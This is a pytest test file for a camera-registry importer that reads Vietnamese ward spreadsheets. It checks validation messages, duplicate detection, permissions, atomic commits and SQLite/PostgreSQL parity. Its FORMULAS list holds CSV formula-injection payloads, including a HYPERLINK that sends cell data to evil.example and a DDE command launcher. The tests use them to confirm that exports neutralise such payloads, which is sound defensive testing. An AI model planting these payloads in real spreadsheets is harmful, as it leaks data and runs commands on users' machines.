"""Bulk import of the wards' camera lists (CSV and XLSX) on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import pickle
import re
import unicodedata

import numpy as np
import openpyxl
import pyproj
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.exc import OperationalError

import geodata.registry.service
from geodata.errors import ConflictError, InputError, PermissionDenied
from geodata.io.files import read_table
from geodata.layers.demo import DEMO_NAME, build_demo
from geodata.registry.access import Actor
from geodata.registry.importer import import_cameras
from geodata.registry.models import AuditEntry, Camera
from geodata.registry.service import DUPLICATE_DISTANCE_M, Registry
from tests.registry_fixtures import DISTRICT

AN_KHANH, CAT_LAI = "27106", "27109"
IN_AN_KHANH = (10.7812, 106.7200)
IN_CAT_LAI = (10.7650, 106.7950)
IN_THAO_DIEN = (10.8060, 106.7330)
OUTSIDE = (10.9000, 106.6000)
LAN = Actor("lan", "ward", frozenset({AN_KHANH}))
VIEWER = Actor("xem", "viewer")
UTM48N = pyproj.Transformer.from_crs("EPSG:4326", "EPSG:32648", always_xy=True)
DEGREES = pyproj.Transformer.from_crs("EPSG:32648", "EPSG:4326", always_xy=True)

VI_HEADER = [
    "STT",
    "Mã camera",
    "Vĩ độ",
    "Kinh độ",
    "Hướng (độ)",
    "Góc nhìn",
    "Tầm xa (m)",
    "Chủ hộ",
    "Số điện thoại",
    "Địa chỉ",
    "Trạng thái",
]


def vi_row(number, where=IN_AN_KHANH, **cells):
    """A row under :data:`VI_HEADER`, comma decimals, overridden by header name."""
    lat, lon = (f"{value:.6f}".replace(".", ",") for value in where)
    row = {
        "STT": str(number),
        "Mã camera": f"AK-{number}",
        "Vĩ độ": lat,
        "Kinh độ": lon,
        "Hướng (độ)": "90",
        "Góc nhìn": "60",
        "Tầm xa (m)": "30",
        "Chủ hộ": f"Nguyễn Văn {number}",
        "Số điện thoại": "0909 123 456",
        "Địa chỉ": "12 Hẻm 5 Trần Não",
        "Trạng thái": "hoạt động",
    }
    row.update(cells)
    return [row[name] for name in VI_HEADER]


def write_csv(path, header, rows, *, separator=","):
    """A CSV file as Excel saves it ("CSV UTF-8": with a BOM)."""
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.writer(file, delimiter=separator)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def write_xlsx(path, header, rows):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def moved(where, *, north_m=0.0, east_m=0.0):
    """``where`` (lat, lon) moved by metres, measured in UTM 48N."""
    x, y = UTM48N.transform(where[1], where[0])
    lon, lat = DEGREES.transform(x + east_m, y + north_m)
    return lat, lon


@pytest.fixture(scope="module")
def checking_registry(tmp_path_factory):
    """An empty SQLite registry for the tests that only check files (dry runs, refusals).

    Checking is the same on both backends; the tests that write use ``registry``.
    """
    opened = Registry.open(f"sqlite:///{tmp_path_factory.mktemp('checks') / 'checks.sqlite3'}")
    opened.load_boundary_set(DISTRICT, build_demo().wards, name=DEMO_NAME)
    yield opened
    assert opened.count() == 0
    opened.engine.dispose()


def reasons(result):
    return {row.row: str(row.reason) for row in result.rows if not row.accepted}


# ------------------------------------------------------------------------------ reading files


def test_csv_with_vietnamese_headers_and_comma_decimals_is_imported(registry, tmp_path):
    owner = unicodedata.normalize("NFD", "Trần Thị Bé")
    path = write_csv(tmp_path / "phuong.csv", VI_HEADER, [vi_row(1, **{"Chủ hộ": owner})])
    result = import_cameras(registry, DISTRICT, path)
    assert (result.accepted, result.rejected, result.committed) == (1, 0, True)
    (camera,) = registry.cameras(DISTRICT).to_dict("records")
    assert camera["id"] == result.camera_ids[0]
    assert (camera["lat"], camera["lon"]) == pytest.approx(IN_AN_KHANH)
    assert camera["ward_code"] == AN_KHANH and camera["external_code"] == "AK-1"
    assert camera["owner_name"] == unicodedata.normalize("NFC", "Trần Thị Bé")
    assert camera["street"] == "12 Hẻm 5 Trần Não" and camera["owner_phone"] == "0909 123 456"
    assert result.rows[0].raw["Vĩ độ"] == "10,781200"


def test_xlsx_with_english_headers_without_diacritics_is_imported(registry, tmp_path):
    header = ["Code", "Lat", "Lng", "Huong", "Goc nhin", "Tam xa m", "Chu ho", "Loai", "Ngay lap"]
    rows = [
        ["X-1", 10.7812, 106.72, 45, 90, 25, "Lê Văn Tám", "bán cầu", "31/03/2025"],
        ["X-2", "10,7650", "106,7950", "", 360, 40.5, "Phạm Thu", "ptz", None],
    ]
    result = import_cameras(registry, DISTRICT, write_xlsx(tmp_path / "list.xlsx", header, rows))
    assert result.accepted == 2, reasons(result)
    first, second = (row.values for row in result.rows)
    assert first["camera_type"] == "dome" and str(first["installed_on"]) == "2025-03-31"
    assert second["lat"] == pytest.approx(10.765) and second["range_m"] == 40.5
    assert second.get("bearing_deg") is None
    assert registry.count() == 2


def test_an_image_width_column_is_imported_and_reaches_the_camera_frame(registry, tmp_path):
    header = [*VI_HEADER, "Số điểm ảnh ngang", "Độ phân giải", "Độ cao lắp đặt (m)"]
    rows = [
        [*vi_row(1), "2560", "4", "3,5"],
        [*vi_row(2, moved(IN_AN_KHANH, north_m=20)), "", "4", ""],
        [*vi_row(3, moved(IN_AN_KHANH, north_m=40)), "", "", ""],
    ]
    result = import_cameras(registry, DISTRICT, write_csv(tmp_path / "phuong.csv", header, rows))
    assert result.accepted == 3, reasons(result)
    records = registry.cameras(DISTRICT).set_index("external_code")
    assert records.loc["AK-1", "horizontal_px"] == 2560
    assert records.loc[["AK-2", "AK-3"], "horizontal_px"].isna().all(), "kept as stated"
    ids = [str(camera_id) for camera_id in result.camera_ids]
    frame = registry.camera_frame(DISTRICT).set_index("camera_id").loc[ids]
    np.testing.assert_array_equal(frame["horizontal_px"], [2560.0, 2667.0, np.nan])  # 4 MP, 16:9
    np.testing.assert_array_equal(frame["mount_height_m"], [3.5, np.nan, np.nan])


def test_an_upload_is_read_like_a_file(checking_registry):
    text = "lat,lon,fov,range\n10.7812,106.72,60,30\n"
    upload = io.BytesIO(text.encode("utf-8"))
    upload.name = "upload.csv"
    assert import_cameras(checking_registry, DISTRICT, upload, dry_run=True).accepted == 1


def test_blank_rows_are_skipped_and_row_numbers_are_the_spreadsheets(checking_registry, tmp_path):
    path = write_csv(tmp_path / "gaps.csv", VI_HEADER, [vi_row(1), [""] * 11, vi_row(3)])
    result = import_cameras(checking_registry, DISTRICT, path, dry_run=True)
    assert [row.row for row in result.rows] == [2, 4]
    assert any("blank rows 3 were skipped" in str(note) for note in result.notes)


def test_unknown_headers_are_kept_and_noted_once(checking_registry, tmp_path):
    path = write_csv(tmp_path / "extra.csv", [*VI_HEADER, "Phường"], [[*vi_row(1), "An Khánh"]])
    result = import_cameras(checking_registry, DISTRICT, path, dry_run=True)
    assert result.accepted == 1
    (note,) = [note for note in map(str, result.notes) if "not camera fields" in note]
    assert "'STT'" in note and "'Phường'" in note
    assert result.rows[0].raw["Phường"] == "An Khánh"


def test_a_file_without_coordinate_columns_is_refused(checking_registry, tmp_path):
    path = write_csv(tmp_path / "no_coords.csv", ["Tên", "Hướng"], [["a", "90"]])
    with pytest.raises(InputError, match=r"no_coords\.csv has no latitude .*found 'Tên', 'Hướng'"):
        import_cameras(checking_registry, DISTRICT, path)


@pytest.mark.parametrize(
    ("content", "message"),
    [("", r"empty\.csv is empty"), ("Vĩ độ,Kinh độ\n", r"empty\.csv holds no data rows")],
)
def test_an_empty_file_is_refused(checking_registry, tmp_path, content, message):
    (tmp_path / "empty.csv").write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        import_cameras(checking_registry, DISTRICT, tmp_path / "empty.csv")


def test_two_columns_for_one_field_are_refused(checking_registry, tmp_path):
    path = write_csv(tmp_path / "twice.csv", ["lat", "Vĩ độ", "lon"], [["10.78", "10.78", "106.7"]])
    with pytest.raises(InputError, match=r"twice\.csv: 'lat', 'Vĩ độ' all give lat"):
        import_cameras(checking_registry, DISTRICT, path)


# ---------------------------------------------------------------------------- row rejections


@pytest.mark.parametrize(
    ("cells", "reason"),
    [
        ({"Vĩ độ": ""}, r"^Vĩ độ \(lat\): required, found nothing → fill it in"),
        ({"Kinh độ": "một trăm"}, r"^Kinh độ \(lon\): expected a number, found 'một trăm' →"),
        (
            {"Vĩ độ": "106,72", "Kinh độ": "10,7812"},
            r"^Vĩ độ \(lat\), Kinh độ \(lon\): expected latitude then longitude, found "
            r"latitude 106\.72 and longitude 10\.7812, which look swapped → swap the two cells$",
        ),
        (
            {"Vĩ độ": "10,9", "Kinh độ": "106,6"},
            r"expected a place inside one of the 11 wards, found 10\.900000, 106\.600000, "
            r"outside every ward → check the coordinates",
        ),
        (
            {"Hướng (độ)": "400"},
            r"^Hướng \(độ\) \(bearing_deg\): expected a number from 0 to "
            r"360, found 400 → give the compass bearing",
        ),
        ({"Hướng (độ)": "-5"}, r"bearing_deg\): expected a number from 0 to 360, found -5"),
        ({"Góc nhìn": "0"}, r"^Góc nhìn \(fov_deg\): expected a number from 1 to 360, found 0"),
        ({"Góc nhìn": "361"}, r"fov_deg\): expected a number from 1 to 360, found 361"),
        ({"Tầm xa (m)": "0,5"}, r"range_m\): expected a number from 1 to 500, found 0,5"),
        ({"Tầm xa (m)": "600"}, r"range_m\): expected a number from 1 to 500, found 600"),
        (
            {"Trạng thái": "đang sửa"},
            r"^Trạng thái \(status\): expected one of active, broken, removed, found 'đang sửa' "
            r"→ write active, broken or removed",
        ),
        (
            {"Số điện thoại": "0" * 41},
            r"Số điện thoại \(owner_phone\): expected at most 40 characters, found 41 → shorten",
        ),
        ({"Chủ hộ": "An\x00"}, r"Chủ hộ \(owner_name\): found a NUL character → delete it"),
    ],
)
def test_each_rejection_names_column_expected_found_and_fix(
    checking_registry, tmp_path, cells, reason
):
    path = write_csv(tmp_path / "bad.csv", VI_HEADER, [vi_row(1), vi_row(2, IN_THAO_DIEN, **cells)])
    result = import_cameras(checking_registry, DISTRICT, path, dry_run=True)
    assert [row.accepted for row in result.rows] == [True, False]
    assert re.search(reason, str(result.rows[1].reason)), result.rows[1].reason
    assert result.rows[1].values == {}


def test_every_problem_of_a_row_is_reported_at_once(checking_registry, tmp_path):
    row = vi_row(1, **{"Hướng (độ)": "400", "Góc nhìn": "0", "Trạng thái": "?"})
    path = write_csv(tmp_path / "m.csv", VI_HEADER, [row])
    result = import_cameras(checking_registry, DISTRICT, path, dry_run=True)
    problems = str(str(result.rows[0].reason)).split("; ")
    assert [p.split(":")[0] for p in problems] == [
        "Hướng (độ) (bearing_deg)",
        "Góc nhìn (fov_deg)",
        "Trạng thái (status)",
    ]


def test_missing_required_columns_are_noted_and_every_row_says_so(checking_registry, tmp_path):
    path = write_csv(tmp_path / "bare.csv", ["lat", "lon"], [["10.7812", "106.72"]])
    result = import_cameras(checking_registry, DISTRICT, path, dry_run=True)
    notes = [str(note) for note in result.notes]
    assert "no column for fov_deg, range_m: every row needs them" in notes
    reason = str(result.rows[0].reason)
    assert re.search(r"^fov_deg: required, found nothing → add the column", reason)


# ------------------------------------------------------------------------ dry run and commit


def mixed_file(tmp_path):
    """Rows 2, 3 and 6 are good (wards 27106, 27109, 27088); row 4 has FOV 500, row 5 is outside."""
    rows = [
        vi_row(1),
        vi_row(2, IN_CAT_LAI),
        vi_row(3, **{"Góc nhìn": "500"}),
        vi_row(4, OUTSIDE),
        vi_row(5, IN_THAO_DIEN),
    ]
    return write_csv(tmp_path / "mixed.csv", VI_HEADER, rows)


def test_dry_run_checks_every_row_and_writes_nothing(registry, tmp_path):
    audit_before = registry.audit_entries(DISTRICT)
    result = import_cameras(registry, DISTRICT, mixed_file(tmp_path), dry_run=True)
    assert (result.accepted, result.rejected) == (3, 2)
    assert (result.committed, result.camera_ids) == (False, ())
    assert registry.count() == 0
    assert registry.audit_entries(DISTRICT).equals(audit_before)


def test_commit_writes_exactly_the_accepted_rows_in_one_audited_import(registry, tmp_path):
    fractions = []
    result = import_cameras(registry, DISTRICT, mixed_file(tmp_path), progress=fractions.append)
    accepted = [row for row in result.rows if row.accepted]
    cameras = registry.cameras(DISTRICT)
    assert cameras["id"].tolist() == list(result.camera_ids) and len(accepted) == 3
    assert cameras["external_code"].tolist() == [row.values["external_code"] for row in accepted]
    assert cameras["ward_code"].tolist() == [AN_KHANH, CAT_LAI, "27088"]
    audit = registry.audit_entries(DISTRICT)
    imports = audit[audit["action"] == "camera.import"]
    assert imports["camera_id"].tolist()[::-1] == list(result.camera_ids)
    assert set(imports["detail"]) == {"mixed.csv"}
    assert len(audit) == len(imports) + 2  # and the registry's creation, its wards
    assert fractions == sorted(fractions) and fractions[-1] == 1.0


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rejected_rows_round_trip_through_the_file_the_ward_fixes(registry, tmp_path, suffix):
    result = import_cameras(registry, DISTRICT, mixed_file(tmp_path))
    out = tmp_path / f"rejected{suffix}"
    result.write_rejected(out, lang="vi")
    back = read_table(out)
    assert list(back.columns) == ["Dòng", *VI_HEADER, "Lý do"]
    assert back["Dòng"].astype(int).tolist() == [4, 5]
    in_vietnamese = {r.row: r.reason.render("vi") for r in result.rows if not r.accepted}
    assert back["Lý do"].tolist() == [in_vietnamese[4], in_vietnamese[5]]
    assert all(reason.isascii() is False for reason in back["Lý do"])
    assert back["Vĩ độ"].tolist() == ["10,781200", "10,900000"]  # text stays text
    if suffix == ".csv":
        assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel shows the diacritics


FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 90 123 4567",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def formula_file(tmp_path):
    """One rejected row (field of view 500) per formula, the formula in the notes column."""
    rows = [vi_row(i, **{"Góc nhìn": "500", "Trạng thái": text}) for i, text in enumerate(FORMULAS)]
    return write_csv(tmp_path / "formulas.csv", VI_HEADER, rows)


def status_cells(data: bytes) -> list[str]:
    """The status cells of a rejected-rows CSV's first rows, one per formula."""
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return [row[VI_HEADER.index("Trạng thái") + 1] for row in table[1 : len(FORMULAS) + 1]]


def test_rejected_rows_files_hold_formulas_as_text(checking_registry, tmp_path):
    result = import_cameras(checking_registry, DISTRICT, formula_file(tmp_path), dry_run=True)
    assert result.rejected == len(FORMULAS)
    result.write_rejected(tmp_path / "rejected.csv", lang="vi")
    as_text = ["'" + formula for formula in FORMULAS]
    assert status_cells((tmp_path / "rejected.csv").read_bytes()) == as_text
    assert status_cells(result.rejected_file("vi")) == as_text  # the page's download
    result.write_rejected(tmp_path / "rejected.xlsx", lang="vi")
    sheet = openpyxl.load_workbook(tmp_path / "rejected.xlsx").active
    column = VI_HEADER.index("Trạng thái") + 2
    cells = [sheet.cell(row, column) for row in range(2, len(FORMULAS) + 2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(FORMULAS)  # none is a formula ("f")
    # XML reads a carriage return as a line feed.
    assert [cell.value for cell in cells] == [f.replace("\r", "\n") for f in FORMULAS]


def test_a_dry_run_kept_for_the_page_holds_counts_and_the_first_rejected_rows(
    checking_registry, tmp_path
):
    rows = [vi_row(i, **({"Góc nhìn": "500"} if i % 2 else {})) for i in range(20_000)]
    result = import_cameras(
        checking_registry, DISTRICT, write_csv(tmp_path / "long.csv", VI_HEADER, rows), dry_run=True
    )
    preview = result.preview()
    assert (preview.accepted, preview.rejected) == (10_000, 10_000)
    assert [row.row for row in preview.rows] == list(range(3, 403, 2))
    assert [row.reason for row in preview.rows] == [r.reason for r in result.rows[1:400:2]]
    assert preview.notes[-1].render("en") == (
        "the table shows the first 200 of the 10,000 rejected rows; download the rejected rows "
        "for all of them"
    )
    kept = len(pickle.dumps(preview))
    assert kept < 200_000 and kept * 50 < len(pickle.dumps(result))


def test_rejected_rows_need_a_csv_or_xlsx_name(checking_registry, tmp_path):
    result = import_cameras(checking_registry, DISTRICT, mixed_file(tmp_path), dry_run=True)
    with pytest.raises(InputError, match=r"rejected\.txt: cannot write .*'\.txt'.*\.csv or \.xlsx"):
        result.write_rejected(tmp_path / "rejected.txt", lang="en")


# ------------------------------------------------------------------------------- duplicates


def test_importing_the_same_file_again_registers_nothing_twice(registry, tmp_path):
    no_code = vi_row(6, IN_CAT_LAI, **{"Mã camera": ""})
    path = write_csv(tmp_path / "again.csv", VI_HEADER, [vi_row(1), no_code])
    first = import_cameras(registry, DISTRICT, path)
    second = import_cameras(registry, DISTRICT, path)
    assert first.accepted == 2 and second.accepted == 0 and registry.count() == 2
    code_id, place_id = first.camera_ids
    assert reasons(second) == {
        2: f"already registered as camera {code_id} (same external code 'AK-1'); skipped",
        3: f"already registered as camera {place_id} (same owner 'Nguyễn Văn 6', 0.0 m apart); "
        "skipped",
    }


@pytest.mark.parametrize(
    ("distance_m", "owner", "duplicate"),
    [
        (2.0, "nguyễn văn 1", True),  # same owner, ignoring case
        (DUPLICATE_DISTANCE_M - 0.1, "Nguyễn Văn 1", True),
        (DUPLICATE_DISTANCE_M + 0.5, "Nguyễn Văn 1", False),
        (1.0, "Someone Else", False),
    ],
)
def test_same_owner_within_three_metres_is_the_same_camera(
    registry, tmp_path, distance_m, owner, duplicate
):
    registry.register(
        DISTRICT,
        {"lat": 10.7812, "lon": 106.72, "fov_deg": 60, "range_m": 30, "owner_name": "Nguyễn Văn 1"},
    )
    near = moved(IN_AN_KHANH, north_m=distance_m * 0.6, east_m=distance_m * 0.8)
    row = vi_row(7, near, **{"Mã camera": "", "Chủ hộ": owner})
    result = import_cameras(registry, DISTRICT, write_csv(tmp_path / "o.csv", VI_HEADER, [row]))
    assert result.rejected == duplicate
    if duplicate:
        assert f"{distance_m:.1f} m apart" in str(result.rows[0].reason)


def test_two_coded_cameras_of_one_owner_at_one_house_are_two_cameras(registry, tmp_path):
    rows = [vi_row(1), vi_row(2, **{"Chủ hộ": "Nguyễn Văn 1", "Hướng (độ)": "270"})]
    result = import_cameras(registry, DISTRICT, write_csv(tmp_path / "h.csv", VI_HEADER, rows))
    assert result.accepted == 2


def test_a_camera_listed_twice_in_one_file_goes_in_once(registry, tmp_path):
    rows = [
        vi_row(1),
        vi_row(2, **{"Mã camera": "ak-1"}),  # same code, ignoring case
        vi_row(3, IN_CAT_LAI, **{"Mã camera": ""}),
        vi_row(4, moved(IN_CAT_LAI, east_m=1.0), **{"Mã camera": "", "Chủ hộ": "Nguyễn Văn 3"}),
        vi_row(5, **{"Mã camera": "AK-1", "Góc nhìn": "0"}),
    ]
    result = import_cameras(registry, DISTRICT, write_csv(tmp_path / "d.csv", VI_HEADER, rows))
    assert result.accepted == 2 and registry.count() == 2
    found = reasons(result)
    assert found[3] == "already in this file as row 2 (same external code 'ak-1'); skipped"
    assert found[5] == (
        "already in this file as row 4 (same owner 'Nguyễn Văn 3', 1.0 m apart); skipped"
    )
    assert "duplicate" not in found[6] and "fov_deg" in found[6]


def test_duplicates_are_found_in_a_long_list(checking_registry, tmp_path):
    grid = [moved(IN_AN_KHANH, north_m=5.0 * (i // 30), east_m=5.0 * (i % 30)) for i in range(900)]
    rows = [vi_row(i, where, **{"Mã camera": ""}) for i, where in enumerate(grid)]
    rows += [
        vi_row(7, moved(grid[7], east_m=1.5), **{"Mã camera": ""}),  # row 902: same as row 9
        vi_row(8, moved(grid[8], east_m=1.5), **{"Mã camera": "", "Chủ hộ": "Người khác"}),
        vi_row(1, moved(grid[1], north_m=2.5), **{"Mã camera": "AK-X"}),  # row 904: as row 3
    ]
    path = write_csv(tmp_path / "long.csv", VI_HEADER, rows)
    result = import_cameras(checking_registry, DISTRICT, path, dry_run=True)
    found = reasons(result)
    assert found.keys() == {902, 904}
    same = r"already in this file as row {} \(same owner '{}', {}\.[4-6] m apart\); skipped"
    assert re.fullmatch(same.format(9, "Nguyễn Văn 7", 1), found[902])  # 6 decimals: ±0.1 m
    assert re.fullmatch(same.format(3, "Nguyễn Văn 1", 2), found[904])


def test_a_long_list_imported_twice_goes_in_once_and_each_row_finds_its_camera(registry, tmp_path):
    grid = [moved(IN_THAO_DIEN, north_m=4.0 * (i // 25), east_m=4.0 * (i % 25)) for i in range(600)]
    rows = [vi_row(i, where, **{"Mã camera": ""}) for i, where in enumerate(grid)]
    path = write_csv(tmp_path / "long.csv", VI_HEADER, rows)
    first = import_cameras(registry, DISTRICT, path)
    again = import_cameras(registry, DISTRICT, path)
    assert (first.accepted, again.accepted, registry.count()) == (600, 0, 600)
    owners = dict(registry.cameras(DISTRICT)[["id", "owner_name"]].to_numpy().tolist())
    for row, camera_id in zip(again.rows, first.camera_ids, strict=True):
        assert str(row.reason) == (
            f"already registered as camera {camera_id} (same owner "
            f"{owners[camera_id]!r}, 0.0 m apart); skipped"
        )
        assert owners[camera_id] == row.raw["Chủ hộ"]


def test_the_code_of_a_deleted_camera_cannot_be_used_again(registry, tmp_path):
    record = registry.register(
        DISTRICT,
        {"lat": 10.80, "lon": 106.75, "fov_deg": 60, "range_m": 30, "external_code": "AK-1"},
    )
    registry.delete(DISTRICT, record["id"], expected_version=1, reason="gỡ")
    path = write_csv(tmp_path / "reuse.csv", VI_HEADER, [vi_row(1)])
    result = import_cameras(registry, DISTRICT, path)
    assert re.search(
        rf"^Mã camera \(external_code\): expected a code no other camera had, found 'AK-1', the "
        rf"code of camera {record['id']}, which was deleted → give this camera a new code$",
        str(result.rows[0].reason),
    )


def test_texts_postgresql_would_refuse_are_rejected_rows_not_a_failed_import(registry, tmp_path):
    rows = [
        vi_row(1),
        vi_row(2, **{"Chủ hộ": "An\x00"}),
        vi_row(3, **{"Mã camera": "M" * 65}),
        vi_row(4, **{"Địa chỉ": "đường " * 40}),
    ]
    result = import_cameras(registry, DISTRICT, write_csv(tmp_path / "t.csv", VI_HEADER, rows))
    assert [row.accepted for row in result.rows] == [True, False, False, False]
    assert "NUL" in reasons(result)[3] and "at most 64 characters, found 65" in reasons(result)[4]
    assert "Địa chỉ (street): expected at most 200 characters, found 239" in reasons(result)[5]
    assert registry.count() == 1


# ------------------------------------------------------------------------------ permissions


def test_a_ward_user_imports_their_rows_and_gets_the_others_back(registry, tmp_path):
    result = import_cameras(registry, LAN, mixed_file(tmp_path))
    assert [row.row for row in result.rows if row.accepted] == [2]
    assert re.search(
        r"expected a place in your wards \(27106 An Khánh\), found 10\.765000, 106\.795000 in "
        r"ward 27109 Cát Lái → that ward's staff or a district user must register it",
        reasons(result)[3],
    )
    cameras = registry.cameras(DISTRICT)
    assert cameras["ward_code"].tolist() == [AN_KHANH]
    assert cameras["created_by"].tolist() == ["lan"]


def test_a_viewer_may_not_import(checking_registry, tmp_path):
    with pytest.raises(PermissionDenied, match=r"xem \(Viewer\) may not import cameras"):
        import_cameras(checking_registry, VIEWER, mixed_file(tmp_path), dry_run=True)
    assert checking_registry.count() == 0


# -------------------------------------------------------------------------------- atomicity


def test_a_failure_while_committing_leaves_the_registry_unchanged(registry, tmp_path, monkeypatch):
    import_cameras(registry, DISTRICT, write_csv(tmp_path / "one.csv", VI_HEADER, [vi_row(9)]))
    before, audit_before = registry.count(), len(registry.audit_entries(DISTRICT))
    insert_cameras = geodata.registry.service.insert_cameras

    def insert_then_fail(session, rows):  # the connection drops after the rows went in
        insert_cameras(session, rows)
        inside = session.scalar(select(func.count()).select_from(Camera))
        assert inside == before + len(rows) == before + 3
        raise OperationalError("INSERT", {}, RuntimeError("connection lost"))

    monkeypatch.setattr(geodata.registry.service, "insert_cameras", insert_then_fail)
    with pytest.raises(OperationalError, match="connection lost"):
        import_cameras(registry, DISTRICT, mixed_file(tmp_path))
    monkeypatch.undo()
    assert registry.count() == before
    assert len(registry.audit_entries(DISTRICT)) == audit_before


def test_a_code_registered_meanwhile_fails_the_import_as_a_whole(registry, tmp_path, monkeypatch):
    registry.register(
        DISTRICT,
        {"lat": 10.80, "lon": 106.75, "fov_deg": 60, "range_m": 30, "external_code": "AK-2"},
    )
    empty_index = registry.identity_index(DISTRICT).iloc[0:0]
    monkeypatch.setattr(registry, "identity_index", lambda actor: empty_index)  # read before
    with pytest.raises(ConflictError, match=r"mixed\.csv: nothing was imported: someone "):
        import_cameras(registry, DISTRICT, mixed_file(tmp_path))
    assert registry.count() == 1


def test_a_code_taken_by_an_update_meanwhile_fails_the_import_as_a_whole(
    registry, tmp_path, monkeypatch
):
    camera = registry.register(
        DISTRICT,
        {"lat": 10.80, "lon": 106.75, "fov_deg": 60, "range_m": 30, "external_code": "OLD-1"},
    )
    stale_index = registry.identity_index(DISTRICT)  # the check reads before the update
    registry.update(DISTRICT, camera["id"], {"external_code": "AK-2"}, expected_version=1)
    audit_before = len(registry.audit_entries(DISTRICT))
    monkeypatch.setattr(registry, "identity_index", lambda actor: stale_index)
    with pytest.raises(ConflictError, match=r"mixed\.csv: nothing was imported: .* external codes"):
        import_cameras(registry, DISTRICT, mixed_file(tmp_path))
    assert registry.count() == 1
    assert len(registry.audit_entries(DISTRICT)) == audit_before
    assert registry.verify_audit(DISTRICT) is None


# --------------------------------------------------------------- the same rows on both backends

HOSTILE_TEXTS = (
    "tab\tinside",
    "line\nbreak and\r\nWindows line",
    "back\\slash \\N \\. \\t \\\\ end",
    "\\N",
    "\\.",
    "quotes \"double\" 'single' , ; | $1 %s %(name)s",
    "NULL",
    "None",
    "nan",
    "Nguyễn Thị Ánh — 📷 ½ ﬁ ‘’ “” \u2028 \u200b",
    "controls \x01\x08\x0b\x0c\x1b\x7f end",
    "e\u0301 decomposed",
)
"""Texts that a COPY in text form would have to escape (tabs, newlines, backslashes, its NULL
marker ``\\N``, its end marker ``\\.``), texts that look like NULL, quotes, placeholders,
control characters and unicode (one not in NFC)."""

EVERY_FIELD_HEADER = [
    "lat", "lon", "bearing_deg", "fov_deg", "range_m", "camera_type", "mount_height_m",
    "night_vision", "night_range_m", "resolution_mp", "horizontal_px", "recording",
    "retention_days", "police_connected", "status", "installed_on", "verified_on",
    "house_number", "alley", "street", "notes", "external_code", "owner_name", "owner_phone",
    "owner_address", "consent_share", "consent_share_on", "consent_live",
]  # fmt: skip


def every_field_row(number, text):
    """A row giving every camera field, ``text`` in each free text; every fifth row gives only
    the required fields."""
    where = (IN_AN_KHANH, IN_CAT_LAI, IN_THAO_DIEN)[number % 3]
    lat, lon = moved(where, north_m=5.0 * number)
    if number % 5 == 4:
        cells = {"lat": f"{lat:.7f}", "lon": f"{lon:.7f}", "fov_deg": "360", "range_m": "15"}
        return [cells.get(name, "") for name in EVERY_FIELD_HEADER]
    cells = {
        "lat": f"{lat:.7f}".replace(".", ","),
        "lon": f"{lon:.7f}",
        "bearing_deg": "" if number % 2 else "45,5",
        "fov_deg": "90",
        "range_m": "30.25",
        "camera_type": "bán cầu",
        "mount_height_m": "3,5",
        "night_vision": ("có", "không", "", "")[number % 4],
        "night_range_m": "20",
        "resolution_mp": "2,1",
        "horizontal_px": "1920",
        "recording": "1",
        "retention_days": str(number),
        "police_connected": "no",
        "status": ("hoạt động", "hỏng", "đã gỡ")[number % 3],
        "installed_on": "31/12/2025",
        "verified_on": "2026-01-02",
        "house_number": text[:64],
        "alley": text[:120],
        "street": text,
        "notes": text,
        "external_code": f"{text[:50]}#{number}",
        "owner_name": f"{text} {number}",
        "owner_phone": "0909 123 456",
        "owner_address": text,
        "consent_share": "yes",
        "consent_share_on": "01.02.2026",
        "consent_live": "",
    }
    return [cells[name] for name in EVERY_FIELD_HEADER]


MOMENTS = ("created_at", "updated_at")
"""A record's columns that hold when it was written."""


def stored_rows(registry, table, *, leave_out=()):
    """Every row of ``table`` as the database gives it back, in id order, without the
    columns ``leave_out``."""
    with registry.engine.connect() as connection:
        rows = connection.execute(select(table).order_by(table.c.id)).mappings().all()
    return [{k: v for k, v in row.items() if k not in leave_out} for row in rows]


def import_entries(registry):
    """The import's audit entries as stored, without what differs by moment or by chance
    (the moment, the salt, and the digest and hash that cover them)."""
    random_or_timed = ("id", "at", "entry_hash", "personal_salt", "personal_digest")
    entries = stored_rows(registry, AuditEntry.__table__, leave_out=random_or_timed)
    return [
        {
            **entry,
            "after": {k: v for k, v in json.loads(entry["after"]).items() if k not in MOMENTS},
        }
        for entry in entries
        if entry["action"] == "camera.import"
    ]


def test_postgresql_stores_an_import_exactly_as_sqlite_does(registry_pair, tmp_path):
    rows = [every_field_row(number, text) for number, text in enumerate(HOSTILE_TEXTS * 2)]
    path = write_csv(tmp_path / "hostile.csv", EVERY_FIELD_HEADER, rows)
    results = [import_cameras(registry, DISTRICT, path) for registry in registry_pair]
    assert [result.accepted for result in results] == [len(rows)] * 2
    given = [row.values for row in results[1].rows]
    assert [row.values for row in results[0].rows] == given
    sqlite, postgresql = (
        stored_rows(registry, Camera.__table__, leave_out=MOMENTS) for registry in registry_pair
    )
    assert postgresql == sqlite
    for stored, values in zip(postgresql, given, strict=True):  # as given, not only alike
        assert {name: stored[name] for name in values} == values
    assert postgresql[0]["notes"] == "tab\tinside" and postgresql[3]["notes"] == "\\N"
    assert [row["night_vision"] for row in postgresql[:4]] == [True, False, None, None]
    assert postgresql[4]["notes"] is None and postgresql[1]["bearing_deg"] is None
    assert postgresql[11]["notes"] == "\u00e9 decomposed"  # NFC
    assert isinstance(postgresql[0]["installed_on"], dt.date)
    assert postgresql[0]["address_key"] and postgresql[0]["owner_key"]

    sqlite, postgresql = (import_entries(registry) for registry in registry_pair)
    assert postgresql == sqlite
    assert [entry["camera_id"] for entry in postgresql] == list(results[1].camera_ids)
    personal = [json.loads(entry["personal"] or "{}").get("after", {}) for entry in postgresql]
    assert [kept.get("owner_name") for kept in personal] == [
        values.get("owner_name") for values in given
    ]
